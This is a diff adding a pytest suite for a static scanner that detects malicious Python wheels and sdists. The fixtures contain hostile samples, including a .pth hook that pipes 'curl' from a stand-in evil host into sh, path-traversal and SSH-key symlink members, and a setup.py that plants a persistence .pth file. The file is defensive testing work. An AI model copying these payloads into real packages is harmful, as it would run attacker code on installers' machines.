@@ -1,0 +1,547 @@
+"""The static gate (pipguard.gate) on real artifacts: wheels written here with a correct RECORD,
+one wheel built by pip from a tiny project, and released wheels downloaded once per machine.
+
+Released wheels are cached in ``~/.cache/pipguard-tests/gate`` (``PIPGUARD_TEST_CACHE=DIR`` moves it
+to ``DIR/gate``; ``PIPGUARD_OFFLINE=1`` never downloads). Without them the tests skip, or fail under
+``PIPGUARD_REQUIRE_ALL_LAYERS=1``.
+"""
+from __future__ import annotations
+
+import base64
+import contextlib
+import fcntl
+import hashlib
+import io
+import os
+import shutil
+import stat
+import subprocess
+import sys
+import tarfile
+import tempfile
+import textwrap
+import zipfile
+from pathlib import Path
+from typing import Dict, Optional
+
+import pytest
+
+import support
+from pipguard import gate
+from pipguard.errors import PipError, UsageError
+from pipguard.gate import Finding, scan_artifact, scan_sdist, scan_wheel
+
+# --- building wheels ------------------------------------------------------------------------------
+
+
+def _b64(data: bytes) -> str:
+    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).decode().rstrip("=")
+
+
+def make_wheel(directory: Path, files: Dict[str, bytes], name: str = "demo", version: str = "1.0",
+               entry_points: Optional[str] = None, meta_name: Optional[str] = None,
+               unlisted: Dict[str, bytes] = None, tamper: Dict[str, bytes] = None,
+               symlinks: Dict[str, str] = None, record: bool = True) -> Path:
+    """A wheel with a correct RECORD; ``unlisted`` members are left out of RECORD, ``tamper``
+    replaces content after RECORD was computed, ``symlinks`` adds S_IFLNK entries."""
+    info = f"{name}-{version}.dist-info"
+    members = dict(files)
+    members[f"{info}/METADATA"] = (f"Metadata-Version: 2.1\nName: {meta_name or name}\n"
+                                   f"Version: {version}\n\n").encode()
+    members[f"{info}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
+    if entry_points is not None:
+        members[f"{info}/entry_points.txt"] = textwrap.dedent(entry_points).encode()
+    rows = [f"{p},sha256={_b64(d)},{len(d)}" for p, d in members.items()]
+    rows.append(f"{info}/RECORD,,")
+    members.update(tamper or {})
+    path = directory / f"{name}-{version}-py3-none-any.whl"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+        for p, d in members.items():
+            zf.writestr(p, d)
+        for p, d in (unlisted or {}).items():
+            zf.writestr(p, d)
+        for p, target in (symlinks or {}).items():
+            zi = zipfile.ZipInfo(p)
+            zi.create_system = 3
+            zi.external_attr = (stat.S_IFLNK | 0o777) << 16
+            zf.writestr(zi, target)
+            rows.insert(0, f"{p},sha256={_b64(target.encode())},{len(target)}")
+        if record:
+            zf.writestr(f"{info}/RECORD", "\n".join(rows) + "\n")
+    return path
+
+
+def rules(findings, severity=None):
+    return sorted({f.rule for f in findings if severity is None or f.severity == severity})
+
+
+def only(findings, rule):
+    got = [f for f in findings if f.rule == rule]
+    assert got, f"no {rule} finding in {findings}"
+    return got
+
+
+# --- released wheels, fetched once ----------------------------------------------------------------
+
+#: setuptools wheels covering every distutils-precedence.pth text shipped (49.3-49.x, 50-59, 60+).
+SETUPTOOLS_PINS = ("setuptools==49.6.0", "setuptools==59.8.0", "setuptools==75.3.0",
+                   "setuptools==80.9.0")
+#: Popular wheels that must produce no finding at all.
+ECOSYSTEM_PINS = ("requests==2.32.3", "six==1.16.0", "attrs==24.2.0", "packaging==24.2",
+                  "wheel==0.45.1", "typing_extensions==4.12.2", "idna==3.10", "certifi==2024.8.30",
+                  "pip==24.3.1", "Cython==3.0.11")
+
+
+def _cache_dir() -> Path:
+    root = os.environ.get("PIPGUARD_TEST_CACHE")
+    base = Path(root) if root else Path(os.path.expanduser("~")) / ".cache" / "pipguard-tests"
+    return base / "gate"
+
+
+@contextlib.contextmanager
+def _locked(path: Path):
+    path.parent.mkdir(parents=True, exist_ok=True)
+    with open(path, "a+") as fh:
+        fcntl.flock(fh, fcntl.LOCK_EX)
+        try:
+            yield
+        finally:
+            fcntl.flock(fh, fcntl.LOCK_UN)
+
+
+def _wheel_for(directory: Path, pin: str) -> Optional[Path]:
+    name, version = pin.split("==")
+    stem = name.lower().replace("-", "_")
+    for p in directory.glob("*.whl"):
+        if p.name.lower().startswith(f"{stem}-{version}-"):
+            return p
+    return None
+
+
+def _unavailable(msg: str):
+    if support.strict():
+        pytest.fail(f"{msg} (PIPGUARD_REQUIRE_ALL_LAYERS=1)", pytrace=False)
+    pytest.skip(msg)
+
+
+def _fetch(pins) -> Dict[str, Path]:
+    """``{pin: wheel}``, downloading the missing ones into the cache (CPython 3.11 x86_64 wheels
+    for binary projects: the gate reads them, nothing installs them)."""
+    directory = _cache_dir()
+    with _locked(directory.parent / "gate.lock"):
+        missing = [p for p in pins if _wheel_for(directory, p) is None] if directory.is_dir() else list(pins)
+        if missing:
+            if os.environ.get("PIPGUARD_OFFLINE") == "1":
+                _unavailable(f"released wheels {missing} not cached in {directory} and PIPGUARD_OFFLINE=1")
+            directory.mkdir(parents=True, exist_ok=True)
+            tmp = Path(tempfile.mkdtemp(prefix=".download-", dir=directory.parent))
+            env = support.clean_env(os.path.expanduser("~"))
+            for keep in ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "NO_PROXY",
+                         "no_proxy", "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "PIP_CERT"):
+                if keep in os.environ:
+                    env[keep] = os.environ[keep]
+            argv = [sys.executable, "-m", "pip", "download", "--no-deps", "--only-binary=:all:",
+                    "--platform", "manylinux2014_x86_64", "--platform", "any",
+                    "--python-version", "3.11", "--implementation", "cp",
+                    "--abi", "cp311", "--abi", "abi3", "--abi", "none",
+                    "--index-url", os.environ.get("PIPGUARD_TEST_INDEX_URL", "https://pypi.org/simple"),
+                    "-d", str(tmp)]
+            try:
+                # One pin per call: several versions of one project cannot share a resolve.
+                for pin in missing:
+                    proc = subprocess.run(argv + [pin], env=env, stdout=subprocess.PIPE,
+                                          stderr=subprocess.STDOUT, universal_newlines=True,
+                                          timeout=600)
+                    if proc.returncode != 0:
+                        tail = "\n".join(proc.stdout.splitlines()[-5:])
+                        _unavailable(f"cannot download {pin} (offline?): {tail}")
+                for wheel in tmp.glob("*.whl"):
+                    os.replace(wheel, directory / wheel.name)
+            finally:
+                shutil.rmtree(tmp, ignore_errors=True)
+        out = {p: _wheel_for(directory, p) for p in pins}
+    absent = [p for p, w in out.items() if w is None]
+    if absent:
+        _unavailable(f"released wheels {absent} missing from {directory} after download")
+    return out
+
+
+@pytest.fixture(scope="session")
+def setuptools_wheels() -> Dict[str, Path]:
+    return _fetch(SETUPTOOLS_PINS)
+
+
+@pytest.fixture(scope="session")
+def ecosystem_wheels() -> Dict[str, Path]:
+    return _fetch(ECOSYSTEM_PINS)
+
+
+# --- rule 1: .pth files ---------------------------------------------------------------------------
+
+EVIL_PTH = b"import os; os.system('curl -s http://evil.example/x | sh')\n"
+SETUPTOOLS_LINE = (b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, "
+                   b"'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n")
+
+
+def test_malicious_pth_is_critical(tmp_path):
+    whl = make_wheel(tmp_path, {"demo/__init__.py": b"", "demo-hook.pth": EVIL_PTH})
+    findings = scan_wheel(whl)
+    (f,) = only(findings, "pth-exec")
+    assert f.severity == "critical" and f.member == "demo-hook.pth" and f.line == 1
+    assert f.evidence.startswith("import os; os.system(")
+    assert f.package == "demo" and f.artifact == whl.name
+    assert findings[0] is f  # most severe first
+
+
+def test_benign_path_pth_has_no_finding(tmp_path):
+    pth = b"# vendored plugins\n\ndemo_plugins\nsub/dir\n  import os\n"  # indented: a path, per site.py
+    whl = make_wheel(tmp_path, {"demo/__init__.py": b"", "demo.pth": pth})
+    assert scan_wheel(whl) == ()
+
+
+def test_pth_outside_site_dir_is_harmless(tmp_path):
+    whl = make_wheel(tmp_path, {"demo/__init__.py": b"", "demo/data/evil.pth": EVIL_PTH,
+                                "demo-1.0.data/data/share/demo/x.pth": EVIL_PTH})
+    assert scan_wheel(whl) == ()
+
+
+@pytest.mark.parametrize("member", ["demo-1.0.data/purelib/x.pth", "demo-1.0.data/platlib/x.pth",
+                                    "demo-1.0.data/data/lib/python3.11/site-packages/x.pth"])
+def test_pth_in_other_site_roots_is_critical(tmp_path, member):
+    whl = make_wheel(tmp_path, {"demo/__init__.py": b"", member: EVIL_PTH})
+    assert only(scan_wheel(whl), "pth-exec")[0].severity == "critical"
+
+
+@pytest.mark.parametrize("content", [
+    b"import\tos;os.system('id')\n",
+    b"# harmless\rimport os\n",            # universal newlines (Python <= 3.12)
+    b"# harmless\x0cimport os\n",          # str.splitlines (Python >= 3.13)
+    b"\xef\xbb\xbfimport os\n",            # BOM stripped by utf-8-sig (Python >= 3.13)
+    "# x\u2028import os\n".encode(),       # U+2028 line separator (Python >= 3.13)
+])
+def test_hidden_import_lines_are_found(tmp_path, content):
+    whl = make_wheel(tmp_path, {"demo.pth": content})
+    assert only(scan_wheel(whl), "pth-exec")[0].severity == "critical"
+
+
+def test_pth_path_escape_is_high(tmp_path):
+    whl = make_wheel(tmp_path, {"demo.pth": b"../../../../tmp/hijack\n/opt/evil\nfine/dir\n"})
+    got = only(scan_wheel(whl), "pth-path-escape")
+    assert [(f.severity, f.line) for f in got] == [("high", 1), ("high", 2)]
+
+
+def test_editable_finder_pth_is_critical_and_says_why(tmp_path):
+    whl = make_wheel(tmp_path, {"__editable___demo_1_0_finder.py": b"",
+                                "__editable__.demo-1.0.pth":
+                                    b"import __editable___demo_1_0_finder; "
+                                    b"__editable___demo_1_0_finder.install()\n"})
+    (f,) = only(scan_wheel(whl), "pth-exec")
+    assert f.severity == "critical" and "editable" in f.message
+
+
+def test_editable_path_pth_is_only_informational(tmp_path):
+    whl = make_wheel(tmp_path, {"__editable__.demo-1.0.pth": b"/home/dev/src/demo\n"})
+    (f,) = scan_wheel(whl)
+    assert (f.rule, f.severity) == ("pth-path-escape", "medium")
+
+
+def test_huge_site_pth_is_not_read_but_reported(tmp_path, monkeypatch):
+    monkeypatch.setattr(gate, "MAX_PTH_BYTES", 16)
+    whl = make_wheel(tmp_path, {"demo.pth": b"x" * 64 + b"\n"})
+    (f,) = scan_wheel(whl)
+    assert (f.rule, f.severity) == ("pth-exec", "critical") and "not read" in f.message
+
+
+# --- setuptools' own .pth -------------------------------------------------------------------------
+
+def test_real_setuptools_wheels_have_no_findings(setuptools_wheels):
+    for pin, whl in setuptools_wheels.items():
+        with zipfile.ZipFile(whl) as zf:
+            assert "distutils-precedence.pth" in zf.namelist(), pin
+        assert scan_wheel(whl) == (), pin
+
+
+def test_setuptools_pth_variants_are_the_released_ones(setuptools_wheels):
+    shipped = set()
+    for whl in setuptools_wheels.values():
+        with zipfile.ZipFile(whl) as zf:
+            shipped.add(gate._normalise_pth_line(zf.read("distutils-precedence.pth").decode()))
+    assert shipped == {gate._normalise_pth_line(v) for v in gate.SETUPTOOLS_PTH_LINES}
+
+
+def test_setuptools_line_in_other_wheel_is_critical(tmp_path):
+    whl = make_wheel(tmp_path, {"evil/__init__.py": b"", "distutils-precedence.pth": SETUPTOOLS_LINE},
+                     name="evil")
+    (f,) = only(scan_wheel(whl), "pth-exec")
+    assert f.severity == "critical" and "outside the setuptools wheel" in f.message
+
+
+def test_setuptools_allowance_needs_exact_text_and_agreeing_names(tmp_path):
+    extra = make_wheel(tmp_path, {"distutils-precedence.pth": SETUPTOOLS_LINE + b"import evil\n",
+                                  "_distutils_hack/__init__.py": b""}, name="setuptools")
+    assert len(only(scan_wheel(extra), "pth-exec")) == 2
+    other = tmp_path / "o"
+    other.mkdir()
+    fake = make_wheel(other, {"distutils-precedence.pth": SETUPTOOLS_LINE}, name="evil",
+                      meta_name="setuptools")
+    assert only(scan_wheel(fake), "pth-exec")[0].severity == "critical"
+
+
+def test_distutils_hack_in_other_wheel_is_critical(tmp_path):
+    whl = make_wheel(tmp_path, {"_distutils_hack/__init__.py": b"import os\n"})
+    assert only(scan_wheel(whl), "startup-module")[0].severity == "critical"
+
+
+# --- rule 2: sitecustomize / usercustomize --------------------------------------------------------
+
+@pytest.mark.parametrize("member,rule", [
+    ("sitecustomize.py", "sitecustomize"),
+    ("usercustomize/__init__.py", "usercustomize"),
+    ("sitecustomize.cpython-311-x86_64-linux-gnu.so", "sitecustomize"),
+    ("sitecustomize.pyc", "sitecustomize"),
+    ("demo-1.0.data/purelib/usercustomize.py", "usercustomize"),
+    ("demo-1.0.data/data/lib/python3.11/site-packages/sitecustomize.py", "sitecustomize"),
+])
+def test_startup_customize_modules_are_critical(tmp_path, member, rule):
+    whl = make_wheel(tmp_path, {member: b"import os\n"})
+    assert only(scan_wheel(whl), rule)[0].severity == "critical"
+
+
+def test_nested_sitecustomize_is_fine(tmp_path):
+    whl = make_wheel(tmp_path, {"demo/__init__.py": b"", "demo/sitecustomize.py": b""})
+    assert scan_wheel(whl) == ()
+
+
+# --- rule 3: console scripts ----------------------------------------------------------------------
+
+def test_console_script_named_pip_is_high(tmp_path):
+    whl = make_wheel(tmp_path, {"demo/__init__.py": b""}, entry_points="""
+        [console_scripts]
+        demo = demo:main
+        pip = demo:main
+        [gui_scripts]
+        python3.12 = demo:main
+        """)
+    got = only(scan_wheel(whl), "console-script-shadowing")
+    assert {(f.severity, f.evidence) for f in got} == {("high", "pip = demo:main"),
+                                                      ("high", "python3.12 = demo:main")}
+
+
+def test_installed_scripts_that_shadow_are_high(tmp_path):
+    whl = make_wheel(tmp_path, {"demo-1.0.data/scripts/sudo": b"#!/bin/sh\n",
+                                "demo-1.0.data/data/bin/git": b"#!/bin/sh\n",
+                                "demo-1.0.data/scripts/demo-tool": b"#!/bin/sh\n"})
+    got = only(scan_wheel(whl), "console-script-shadowing")
+    assert sorted(f.member for f in got) == ["demo-1.0.data/data/bin/git", "demo-1.0.data/scripts/sudo"]
+
+
+def test_pip_may_install_pip(tmp_path):
+    whl = make_wheel(tmp_path, {"pip/__init__.py": b""}, name="pip", entry_points="""
+        [console_scripts]
+        pip = pip._internal.cli.main:main
+        pip3 = pip._internal.cli.main:main
+        pip3.12 = pip._internal.cli.main:main
+        """)
+    assert scan_wheel(whl) == ()
+
+
+# --- rule 4: path traversal -----------------------------------------------------------------------
+
+@pytest.mark.parametrize("member", ["../evil", "demo/../../evil", "/etc/cron.d/evil",
+                                    "demo-1.0.data/scripts/../../../.bashrc", "..\\..\\evil"])
+def test_traversal_member_is_critical(tmp_path, member):
+    whl = make_wheel(tmp_path, {"demo/__init__.py": b"", member: b"x"})
+    got = [f for f in only(scan_wheel(whl), "path-traversal") if f.member == member]
+    assert got and got[0].severity == "critical"
+
+
+def test_symlink_member_is_critical(tmp_path):
+    whl = make_wheel(tmp_path, {"demo/__init__.py": b""}, symlinks={"demo/key": "/root/.ssh/id_rsa"})
+    (f,) = only(scan_wheel(whl), "path-traversal")
+    assert f.severity == "critical" and "symlink" in f.message
+
+
+# --- rule 5: RECORD -------------------------------------------------------------------------------
+
+def test_record_hash_mismatch_is_high(tmp_path):
+    whl = make_wheel(tmp_path, {"demo/__init__.py": b"print('hi')\n"},
+                     tamper={"demo/__init__.py": b"print('pwned')\n"})
+    got = only(scan_wheel(whl), "record-mismatch")
+    assert {f.severity for f in got} == {"high"} and got[0].member == "demo/__init__.py"
+
+
+def test_unlisted_member_is_high(tmp_path):
+    whl = make_wheel(tmp_path, {"demo/__init__.py": b""}, unlisted={"demo/extra.py": b"x"})
+    (f,) = only(scan_wheel(whl), "record-mismatch")
+    assert (f.severity, f.member) == ("high", "demo/extra.py")
+
+
+def test_missing_record_is_high(tmp_path):
+    whl = make_wheel(tmp_path, {"demo/__init__.py": b""}, record=False)
+    assert only(scan_wheel(whl), "record-mismatch")[0].severity == "high"
+
+
+# --- rule 6: data schemes -------------------------------------------------------------------------
+
+def test_unknown_data_scheme_is_high(tmp_path):
+    whl = make_wheel(tmp_path, {"demo-1.0.data/root/etc/passwd": b"x"})
+    assert only(scan_wheel(whl), "data-scheme-escape")[0].severity == "high"
+
+
+def test_sensitive_data_file_is_medium(tmp_path):
+    whl = make_wheel(tmp_path, {"demo-1.0.data/data/share/systemd/user/demo.service": b"[Unit]\n",
+                                "demo-1.0.data/data/share/demo/readme.txt": b"ok"})
+    (f,) = scan_wheel(whl)
+    assert (f.rule, f.severity) == ("data-scheme-escape", "medium")
+
+
+# --- bounds, errors, data type --------------------------------------------------------------------
+
+def test_findings_are_capped_and_keep_the_critical(tmp_path):
+    whl = make_wheel(tmp_path, {"sitecustomize.py": b""},
+                     unlisted={f"demo/f{i}.py": b"" for i in range(300)})
+    findings = scan_wheel(whl)
+    assert len(findings) == gate.MAX_FINDINGS
+    assert findings[0].rule == "sitecustomize"
+    assert findings[-1].rule == "findings-truncated" and "202 more" in findings[-1].message
+
+
+def test_corrupt_zip_is_piperror(tmp_path):
+    bad = tmp_path / "demo-1.0-py3-none-any.whl"
+    bad.write_bytes(b"PK\x03\x04 this is not a zip")
+    with pytest.raises(PipError, match="corrupt archive"):
+        scan_wheel(bad)
+    good = make_wheel(tmp_path / "..", {"demo/__init__.py": b"x" * 5000})
+    data = good.read_bytes()
+    truncated = tmp_path / "t-1.0-py3-none-any.whl"
+    truncated.write_bytes(data[: len(data) // 2])
+    with pytest.raises(PipError, match="corrupt archive"):
+        scan_wheel(truncated)
+
+
+def test_crc_error_is_piperror(tmp_path):
+    whl = make_wheel(tmp_path, {"demo/__init__.py": b"A" * 1000})
+    data = bytearray(whl.read_bytes())
+    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
+        zi = zf.getinfo("demo/__init__.py")
+        start = zi.header_offset + 30 + len(zi.filename.encode()) + len(zi.extra)
+    data[start + 2] ^= 0xFF  # flip compressed bytes
+    whl.write_bytes(bytes(data))
+    with pytest.raises(PipError, match="corrupt archive"):
+        scan_wheel(whl)
+
+
+def test_missing_file_is_usage_error(tmp_path):
+    with pytest.raises(UsageError):
+        scan_wheel(tmp_path / "nope-1.0-py3-none-any.whl")
+
+
+def test_finding_is_frozen_and_truncates_evidence():
+    f = Finding("p", "a.whl", "high", "r", "m", None, "msg", "x" * 500)
+    assert len(f.evidence) == gate.MAX_EVIDENCE
+    with pytest.raises(Exception):
+        f.rule = "other"  # type: ignore[misc]
+    with pytest.raises(ValueError):
+        Finding("p", "a", "low", "r", "m", None, "msg", "")
+    assert f.to_dict()["severity"] == "high"
+
+
+# --- sdists ---------------------------------------------------------------------------------------
+
+def _tar(path: Path, members) -> Path:
+    with tarfile.open(path, "w:gz") as tf:
+        for name, kind, payload in members:
+            ti = tarfile.TarInfo(name)
+            if kind == "file":
+                ti.size = len(payload)
+                tf.addfile(ti, io.BytesIO(payload))
+            else:
+                ti.type = tarfile.SYMTYPE if kind == "sym" else tarfile.LNKTYPE
+                ti.linkname = payload
+                tf.addfile(ti)
+    return path
+
+
+def test_sdist_clean(tmp_path):
+    sd = _tar(tmp_path / "demo-1.0.tar.gz", [("demo-1.0/setup.py", "file", b"x"),
+                                             ("demo-1.0/README", "sym", "docs/README.md")])
+    findings = scan_sdist(sd)
+    assert {(f.rule, f.severity) for f in findings} == {("path-traversal", "medium")}
+    assert scan_artifact(sd) == findings
+
+
+@pytest.mark.parametrize("members", [
+    [("../evil", "file", b"x")],
+    [("/etc/evil", "file", b"x")],
+    [("demo-1.0/key", "sym", "/root/.ssh/id_rsa")],
+    [("demo-1.0/up", "sym", "../../outside")],
+    [("demo-1.0/hl", "lnk", "../etc/passwd")],
+])
+def test_sdist_traversal_and_links_are_critical(tmp_path, members):
+    sd = _tar(tmp_path / "demo-1.0.tar.gz", members)
+    got = only(scan_sdist(sd), "path-traversal")
+    assert got[0].severity == "critical" and got[0].package == "demo"
+
+
+def test_corrupt_sdist_is_piperror(tmp_path):
+    sd = _tar(tmp_path / "demo-1.0.tar.gz", [("demo-1.0/setup.py", "file", os.urandom(50000))])
+    data = sd.read_bytes()
+    sd.write_bytes(data[: len(data) // 2])
+    with pytest.raises(PipError, match="corrupt archive"):
+        scan_sdist(sd)
+
+
+def test_corpus_pth_dropper_sdist_is_clean_and_its_wheel_is_critical(tmp_path, corpus_sdist,
+                                                                      wheelhouse):
+    """tests/packages/pth_dropper (harmless payload, nothing hostile at build time): the sdist has
+    nothing the light sdist scan looks for; the wheel pip builds from it ships evil.pth."""
+    sd = corpus_sdist("pth_dropper")
+    assert scan_sdist(sd) == ()
+    out = tmp_path / "out"
+    proc = support.pip_wheel(sd, out, wheelhouse, env=support.clean_env(tmp_path / "home"))
+    assert proc.returncode == 0, proc.stdout[-3000:]
+    (whl,) = out.glob("pth_dropper-*.whl")
+    (f,) = scan_wheel(whl)
+    assert (f.rule, f.severity, f.member) == ("pth-exec", "critical", "evil.pth")
+    assert f.evidence == 'import os; os.system("echo pwned")'
+
+
+# --- a wheel built by pip -------------------------------------------------------------------------
+
+SETUP_PY = '''
+import os, shutil
+from setuptools import setup
+from setuptools.command.build_py import build_py
+
+class with_pth(build_py):
+    """The classic persistence trick: put a .pth at the wheel root via build_lib."""
+    def run(self):
+        super().run()
+        shutil.copy("gatepth_hook.pth", os.path.join(self.build_lib, "gatepth_hook.pth"))
+
+setup(name="gatepth", version="1.0", py_modules=["gatepth"], cmdclass={"build_py": with_pth},
+      entry_points={"console_scripts": ["sudo = gatepth:main"]})
+'''
+
+
+def test_pip_built_wheel_with_pth_and_sudo_script(tmp_path, wheelhouse):
+    proj = tmp_path / "gatepth"
+    proj.mkdir()
+    (proj / "setup.py").write_text(SETUP_PY)
+    (proj / "gatepth.py").write_text("def main():\n    pass\n")
+    (proj / "gatepth_hook.pth").write_text("import os; os.system('id')\n")
+    out = tmp_path / "out"
+    proc = support.pip_wheel(proj, out, wheelhouse, env=support.clean_env(tmp_path / "home"))
+    assert proc.returncode == 0, proc.stdout[-3000:]
+    (whl,) = out.glob("gatepth-1.0-*.whl")
+    findings = scan_wheel(whl)
+    assert rules(findings, "critical") == ["pth-exec"]
+    assert rules(findings, "high") == ["console-script-shadowing"]
+    assert not [f for f in findings if f.rule == "record-mismatch"]
+
+
+# --- the real ecosystem: no false positives ------------------------------------------------------
+
+def test_popular_wheels_have_no_findings(ecosystem_wheels):
+    for pin, whl in ecosystem_wheels.items():
+        assert scan_wheel(whl) == (), pin
